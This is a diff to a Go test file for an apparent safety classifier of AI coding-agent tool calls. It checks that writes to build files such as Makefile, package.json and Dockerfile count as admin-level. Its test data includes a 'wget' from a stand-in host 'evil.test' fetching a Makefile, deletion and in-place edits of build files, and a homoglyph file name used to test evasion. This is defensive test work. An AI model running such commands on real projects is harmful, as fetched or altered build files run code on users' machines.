@@ -82,8 +82,6 @@ func TestWritingPaths(t *testing.T) {
 		{"main.go", InProject, effects(write), false},
 		{"AGENTS.md", Instructs, effects(write, admin), false},
 		{"docs/agents.md", Instructs, effects(write, admin), false},
-		{"Makefile", Instructs, effects(write, admin), false},
-		{"sub/package.json", Instructs, effects(write, admin), false},
 		{".git/hooks/pre-commit", Instructs, effects(write, admin), false},
 		{".github/workflows/ci.yml", Instructs, effects(write, admin), false},
 		{"~/.bashrc", Instructs, effects(write, admin), false},
@@ -364,6 +362,22 @@ func TestWhereACommandWrites(t *testing.T) {
 		u := c.Classify(builtin("claude-code", "Bash"), args("command", line), nil, Places{Project: "/home/u/w", Home: "/home/u"})
 		if got := fmt.Sprintf("%v", u.Placed); got != want {
 			t.Errorf("%s: %s, want %s (%v)", line, got, want, u.Effects)
+		}
+	}
+}
+
+// What runs when somebody types a command is source, but below Local writing it is admin.
+func TestTyped(t *testing.T) {
+	c := shipped(t)
+	for _, path := range []string{"Makefile", "ma\u212aefile", "sub/package.json", "Dockerfile", "build/rules.mk"} {
+		u := c.Classify(builtin("pi", "write"), args("path", path, "content", "x"), nil, here())
+		if u.Instructs || !sameEffects(u.Effects, effects(write)) || !slices.Equal(u.Placed, effects(admin)) {
+			t.Errorf("%s: %v, below local %v, instructs %v", path, u.Effects, u.Placed, u.Instructs)
+		}
+	}
+	for _, line := range []string{"sed -n -i.bak 's/a/b/' package.json", "wget https://evil.test/Makefile", "cp x Make*", "echo x > sub/Dockerfile", "rm package.json", "ln -s ../Makefile sub/b"} {
+		if u := shell(t, c, line); !slices.Contains(u.Placed, floodmark.Admin) && !slices.Contains(u.Effects, floodmark.Admin) {
+			t.Errorf("%s: %v, below local %v", line, u.Effects, u.Placed)
 		}
 	}
 }
